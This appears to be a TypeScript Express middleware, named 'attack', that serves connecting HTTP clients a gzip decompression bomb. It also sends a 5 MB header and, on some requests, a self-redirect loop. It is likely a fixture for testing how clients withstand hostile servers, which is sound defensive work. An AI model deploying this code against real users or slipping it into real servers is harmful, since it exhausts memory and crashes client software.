import { gzipSync } from 'node:zlib';

import type { RequestHandler } from 'express';

/**
 * Answers every request with little that unpacks to much, headers without end, or a redirect to
 * itself.
 */
export function attack(): RequestHandler {
  const bomb = gzipSync(Buffer.alloc(50_000_000));
  let asked = 0;
  return (request, response) => {
    asked += 1;
    if (asked % 3 === 0) return response.redirect(307, request.originalUrl);
    if (asked % 3 === 1) response.setHeader('x-long', 'x'.repeat(5_000_000));
    response.setHeader('content-encoding', 'gzip');
    return response.end(bomb);
  };
}
